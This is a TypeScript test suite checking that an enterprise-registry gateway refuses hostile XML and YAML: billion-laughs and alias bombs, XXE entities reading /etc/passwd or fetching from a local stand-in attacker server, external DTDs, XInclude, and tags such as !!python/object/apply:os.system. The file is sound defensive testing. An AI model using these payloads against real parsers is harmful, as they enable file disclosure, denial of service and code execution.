/**
 * Security suite: XML and YAML bombs and external entities, through the real gateway.
 *
 * The gateway parses XML in one place, the AMR enterprise adapter's SOAP answers (SOAP 1.1 in
 * GBK, fast-xml-parser), and YAML in one place, contract publishing. (JSON everywhere else;
 * XML or YAML sent to a JSON route is 415; document uploads are sniffed by magic bytes, never
 * parsed.) Here the AMR department is a local server answering whatever hostile document a test
 * sets; an "attacker" server records whether any external entity was fetched.
 *
 * - Billion laughs, SYSTEM entities (file:///etc/passwd, http), parameter entities with an
 *   external DTD, DOCTYPE in any case, in GBK, excessive depth and element counts, undeclared
 *   entity references and other charsets are refused as `department_malformed_response`, fast,
 *   on the health check and on a certificate fetch; nothing is fetched and no file is read.
 * - YAML alias bombs (billion laughs, many aliases of a large anchor), 100 000-deep flow and
 *   1 500-deep block nesting and duplicate keys in a published contract are refused quickly as
 *   `contract_invalid`, with Object.prototype intact; language tags (!!js/function,
 *   !!python/object) and YAML 1.1 merge keys are never resolved: kept as inert plain data.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { seededEnterprises } from '../../adapters/amr-enterprise/seed.js';
import { defaultAmrCredentials } from '../../adapters/amr-enterprise/simulator.js';
import { encodeMessage } from '../../adapters/amr-enterprise/charset.js';
import { bearerHeaders, type SecurityGateway, startSecurityGateway, unmaskedIdNumberLeaks } from './support.js';

/** Generous bound for "refused quickly" on a loaded 2-core machine; the refusals take milliseconds. */
const QUICK_ANSWER_MS = 5000;

interface Answer {
  contentType: string;
  body: Buffer;
}

let gateway: SecurityGateway;
let adminToken: string;
let windowToken: string;
let integratorToken: string;
/** What the fake AMR registry answers next. */
let nextAnswer: Answer;
let amrServer: Server;
/** Where the external entities point: any request here is an XXE that worked. */
let attacker: Server;
let attackerUrl = '';
const attackerHits: string[] = [];
let amrRequests = 0;

const SOAP_OPEN =
  '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:amr="urn:amr:enterprise:v1"><soap:Body>';
const SOAP_CLOSE = '</soap:Body></soap:Envelope>';

function gbk(text: string): Answer {
  return { contentType: 'text/xml; charset=GBK', body: encodeMessage(text, 'GBK') };
}

function ping(state: string, prologue = ''): string {
  return `<?xml version="1.0" encoding="GBK"?>${prologue}${SOAP_OPEN}<amr:PingResponse><amr:zt>${state}</amr:zt></amr:PingResponse>${SOAP_CLOSE}`;
}

async function listen(server: Server): Promise<string> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

async function closeServer(server: Server | undefined): Promise<void> {
  if (!server) return;
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
}

beforeAll(async () => {
  attacker = createServer((request, response) => {
    attackerHits.push(request.url ?? '');
    response.end('<!ENTITY stolen "yes">');
  });
  attackerUrl = await listen(attacker);
  amrServer = createServer((request, response) => {
    amrRequests += 1;
    request.resume();
    request.on('end', () => response.writeHead(200, { 'content-type': nextAnswer.contentType }).end(nextAnswer.body));
  });
  const amrUrl = await listen(amrServer);
  gateway = await startSecurityGateway({
    DEPARTMENTS_JSON: JSON.stringify([
      {
        code: 'AMR',
        name: 'Hostile enterprise registry',
        adapter: 'amr-enterprise',
        baseUrl: amrUrl,
        options: { wsUsername: defaultAmrCredentials.username, wsPassword: defaultAmrCredentials.password },
        // One attempt per call and a breaker that does not open during the run: each answer is judged on its own.
        tuning: { retries: 0, breakerFailures: 1000 },
      },
    ]),
    DEPARTMENT_ALLOWED_HOSTS: '127.0.0.1',
    DEPARTMENT_ALLOW_PRIVATE_NETWORKS: 'true',
  });
  [adminToken, windowToken, integratorToken] = await Promise.all([
    gateway.token('admin'),
    gateway.token('window'),
    gateway.token('integrator'),
  ]);
}, 60_000);

afterAll(async () => {
  await gateway?.close();
  await closeServer(amrServer);
  await closeServer(attacker);
});

interface HealthOutcome {
  ok: boolean;
  error: { code: string; message: string } | null;
}

/** Asks the AMR health check (a SOAP Ping) with `answer` as the registry's reply. */
async function healthWith(answer: Answer): Promise<{ outcome: HealthOutcome; ms: number; text: string }> {
  nextAnswer = answer;
  const started = performance.now();
  const response = await gateway.send('/v1/departments/AMR/health-check', {
    method: 'POST',
    headers: bearerHeaders(adminToken),
  });
  const ms = performance.now() - started;
  expect(response.status, response.text.slice(0, 300)).toBe(200);
  return { outcome: response.json<HealthOutcome>(), ms, text: response.text };
}

const laughs = (levels: number): string => {
  const lines = ['<!ENTITY lol0 "lol">'];
  for (let level = 1; level <= levels; level += 1)
    lines.push(`<!ENTITY lol${level} "${`&lol${level - 1};`.repeat(10)}">`);
  return `<!DOCTYPE lolz [${lines.join('')}]>`;
};

describe('XML from the AMR enterprise registry (SOAP 1.1 in GBK)', () => {
  it('a well-formed Ping answer in GBK is accepted (the control)', async () => {
    const { outcome } = await healthWith(gbk(ping('OK')));
    expect(outcome).toMatchObject({ ok: true, error: null });
  });

  const hostileDocuments: [string, () => Answer][] = [
    ['billion laughs (10 levels, 10^10 expansions)', () => gbk(ping('&lol10;', laughs(10)))],
    [
      'external entity SYSTEM file:///etc/passwd',
      () => gbk(ping('&xxe;', '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')),
    ],
    [
      'external entity SYSTEM over http',
      () => gbk(ping('&xxe;', `<!DOCTYPE r [<!ENTITY xxe SYSTEM "${attackerUrl}/xxe">]>`)),
    ],
    [
      'parameter entity loading an external DTD',
      () => gbk(ping('OK', `<!DOCTYPE r [<!ENTITY % remote SYSTEM "${attackerUrl}/evil.dtd"> %remote;]>`)),
    ],
    [
      'external DTD by PUBLIC identifier',
      () => gbk(ping('OK', `<!DOCTYPE soap:Envelope PUBLIC "-//A//B" "${attackerUrl}/public.dtd">`)),
    ],
    ['a lower-case doctype', () => gbk(ping('OK', `<!doctype r SYSTEM "${attackerUrl}/lower.dtd">`))],
    ['a harmless-looking internal subset in GBK text', () => gbk(ping('&状态;', '<!DOCTYPE r [<!ENTITY 状态 "OK">]>'))],
    [
      'an entity declaration without a DOCTYPE',
      () => gbk(`<?xml version="1.0" encoding="GBK"?><!ENTITY xxe SYSTEM "file:///etc/passwd">${ping('OK').slice(38)}`),
    ],
    ['an undeclared entity reference', () => gbk(ping('&xxe;'))],
    ['10 000 nested elements', () => gbk(ping(`${'<a>'.repeat(10_000)}OK${'</a>'.repeat(10_000)}`))],
    ['200 000 sibling elements', () => gbk(ping(`OK</amr:zt>${'<x/>'.repeat(200_000)}<amr:zt>OK`))],
    ['not well-formed', () => gbk(ping('<unclosed>'))],
    [
      'UTF-16 (a charset the registry never speaks)',
      () => ({
        contentType: 'text/xml; charset=UTF-16',
        body: Buffer.from(ping('OK').replace('GBK', 'UTF-16'), 'utf16le'),
      }),
    ],
    [
      'invalid UTF-8 bytes',
      () => ({
        contentType: 'text/xml; charset=UTF-8',
        body: Buffer.concat([
          Buffer.from(ping('OK').replace('GBK', 'UTF-8').slice(0, 200)),
          Buffer.from([0xff, 0xfe, 0xfd]),
        ]),
      }),
    ],
  ];

  it.each(hostileDocuments)(
    '%s: refused as department_malformed_response, quickly, nothing fetched or read',
    async (_name, document) => {
      const before = amrRequests;
      const { outcome, ms, text } = await healthWith(document());
      expect(amrRequests - before).toBe(1);
      expect(outcome.ok).toBe(false);
      expect(outcome.error?.code).toBe('department_malformed_response');
      expect(ms).toBeLessThan(QUICK_ANSWER_MS);
      expect(text).not.toMatch(/root:x:0:0|stolen/);
      expect(attackerHits).toEqual([]);
    },
  );

  it('XInclude is not processed: its target is never fetched and the answer is judged on the elements as sent', async () => {
    const { outcome } = await healthWith(
      gbk(ping(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${attackerUrl}/include" parse="text"/>`)),
    );
    expect(outcome.ok).toBe(false);
    expect(attackerHits).toEqual([]);
  });

  it('a certificate fetch through the window API gets the same stable error for a billion-laughs answer', async () => {
    const enterprise = seededEnterprises[0];
    if (!enterprise) throw new Error('no seeded enterprise');
    const resolved = await gateway.send('/v1/subjects/resolve', {
      method: 'POST',
      headers: bearerHeaders(windowToken, {
        'content-type': 'application/json',
        'onewindow-purpose': 'case_acceptance',
      }),
      body: JSON.stringify({ identifierType: 'credit_code', identifier: enterprise.tyshxydm, name: enterprise.qymc }),
    });
    expect(resolved.status, resolved.text.slice(0, 300)).toBe(201);
    nextAnswer = gbk(
      `<?xml version="1.0" encoding="GBK"?>${laughs(10)}${SOAP_OPEN}<amr:QueryBusinessLicenceResponse><amr:qymc>&lol10;</amr:qymc></amr:QueryBusinessLicenceResponse>${SOAP_CLOSE}`,
    );
    const started = performance.now();
    const fetched = await gateway.send(`/v1/subjects/${resolved.json<{ id: string }>().id}/certificates`, {
      method: 'POST',
      headers: bearerHeaders(windowToken, {
        'content-type': 'application/json',
        'onewindow-purpose': 'case_acceptance',
      }),
      body: JSON.stringify({ types: ['business_licence'], refresh: true }),
    });
    expect(performance.now() - started).toBeLessThan(QUICK_ANSWER_MS);
    expect(fetched.status, fetched.text.slice(0, 300)).toBe(200);
    const [result] = fetched.json<{ results: { status: string; error: { code: string } | null }[] }>().results;
    expect(result?.status).toBe('department_error');
    expect(result?.error?.code).toBe('department_malformed_response');
    expect(fetched.text).not.toContain('lollol');
  });

  it('XML sent to the gateway’s own routes is not parsed: 415', async () => {
    const xxe = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><client><name>&xxe;</name><kind>window</kind></client>`;
    for (const [path, token] of [
      ['/v1/clients', adminToken],
      ['/v1/contracts', integratorToken],
    ] as const) {
      const answer = await gateway.send(path, {
        method: 'POST',
        headers: bearerHeaders(token, { 'content-type': 'application/xml' }),
        body: xxe,
      });
      expect(answer.status, `${path}: ${answer.text.slice(0, 200)}`).toBe(415);
      expect(answer.text).not.toContain('root:');
    }
  });
});

describe('YAML in contract publishing', () => {
  const catalogue = [
    '  x-onewindow-catalogue:',
    '    resourceCode: tst.yaml',
    '    departmentCode: TESTDEPT',
    '    sharingType: conditional',
    '    updateFrequency: daily',
    '    sla: {availabilityPercent: 99, p95LatencyMs: 800, supportHours: "Mon-Fri"}',
  ].join('\n');
  const contract = (extra: string, version = '1.0.0'): string =>
    `openapi: 3.1.0\ninfo:\n  title: YAML probe\n  version: ${version}\n${catalogue}\n${extra}\npaths:\n  /ping:\n    get:\n      operationId: ping\n      responses: {'200': {description: pong}}\n`;

  function aliasBomb(levels: number): string {
    const lines = ['x-a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]'];
    for (let level = 1; level <= levels; level += 1)
      lines.push(`x-a${level}: &a${level} [${Array.from({ length: 10 }, () => `*a${level - 1}`).join(', ')}]`);
    return lines.join('\n');
  }

  async function publish(
    text: string,
    contentType = 'application/yaml',
  ): Promise<{ status: number; code: string; ms: number; text: string }> {
    const started = performance.now();
    const answer = await gateway.send('/v1/contracts', {
      method: 'POST',
      headers: bearerHeaders(integratorToken, { 'content-type': contentType }),
      body: text,
    });
    const ms = performance.now() - started;
    return {
      status: answer.status,
      code: answer.status >= 400 ? answer.json<{ code: string }>().code : '',
      ms,
      text: answer.text,
    };
  }

  const prototypeBefore = Object.getOwnPropertyNames(Object.prototype).sort();

  it('a plain contract is accepted (the control)', async () => {
    const published = await publish(contract('x-plain: yes', '0.1.0'));
    expect(published.status, published.text.slice(0, 300)).toBe(201);
  });

  const hostileYaml: [string, () => string][] = [
    ['an alias bomb (billion laughs, 10 levels)', () => contract(aliasBomb(10))],
    ['an alias bomb inside a JSON publish request', () => JSON.stringify({ document: contract(aliasBomb(10)) })],
    [
      'many aliases of one large anchor',
      () =>
        contract(
          `x-big: &big "${'x'.repeat(100_000)}"\nx-copies: [${Array.from({ length: 2000 }, () => '*big').join(', ')}]`,
        ),
    ],
    ['100 000-deep flow nesting', () => contract(`x-deep: ${'['.repeat(100_000)}${']'.repeat(100_000)}`)],
    [
      '1 500-deep block nesting by indentation',
      () =>
        contract(`x-deep:\n${Array.from({ length: 1500 }, (_, depth) => `${' '.repeat(depth + 1)}k:`).join('\n')} 1`),
    ],
    ['duplicate keys', () => contract('x-dup: 1\nx-dup: 2')],
  ];

  it.each(hostileYaml)('%s: refused as contract_invalid, quickly, prototype intact', async (_name, text) => {
    const body = text();
    const published = await publish(body, body.startsWith('{') ? 'application/json' : 'application/yaml');
    expect(published.status, published.text.slice(0, 300)).toBe(422);
    expect(published.code).toBe('contract_invalid');
    expect(published.ms).toBeLessThan(QUICK_ANSWER_MS);
    expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(prototypeBefore);
  });

  /** Language tags are never resolved (the core schema knows none): the value stays the plain text written. */
  const tagged: [string, string, string][] = [
    ['a JavaScript function tag', '!!js/function "function () { process.exit(1) }"', 'function () { process.exit(1) }'],
    ['a Python object tag', '!!python/object/apply:os.system ["id"]', 'id'],
    ['an unknown local tag', '!ruby/object:Gem::Installer "i"', 'i'],
  ];

  it.each(tagged.map((entry, index) => [...entry, index] as const))(
    '%s is kept as inert data, never resolved',
    async (_name, value, plain, index) => {
      const version = `${index + 2}.0.0`;
      const published = await publish(contract(`x-code: ${value}`, version));
      expect(published.status, published.text.slice(0, 300)).toBeLessThan(500);
      if (published.status === 201) {
        const read = await gateway.send(`/v1/contracts/tst.yaml/versions/${version}`, {
          headers: bearerHeaders(adminToken),
        });
        const stored = read.json<{ document: Record<string, unknown> }>().document['x-code'];
        expect(JSON.stringify(stored)).toContain(plain);
        expect(typeof stored === 'string' || Array.isArray(stored)).toBe(true);
      }
      expect(published.ms).toBeLessThan(QUICK_ANSWER_MS);
    },
  );

  it('a YAML 1.1 merge key is not merged (kept as a plain `<<` key), so it cannot smuggle members in', async () => {
    const published = await publish(contract('x-base: &base {polluted: yes}\nx-merged: {<<: *base}', '9.0.0'));
    expect(published.status, published.text.slice(0, 300)).toBeLessThan(500);
    if (published.status === 201) {
      const read = await gateway.send('/v1/contracts/tst.yaml/versions/9.0.0', { headers: bearerHeaders(adminToken) });
      expect(read.json<{ document: Record<string, Record<string, unknown>> }>().document['x-merged']).toEqual({
        '<<': { polluted: 'yes' },
      });
    }
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });
});

it('leaks no clear ID number in responses or logs', () => {
  expect(unmaskedIdNumberLeaks(gateway)).toEqual([]);
});
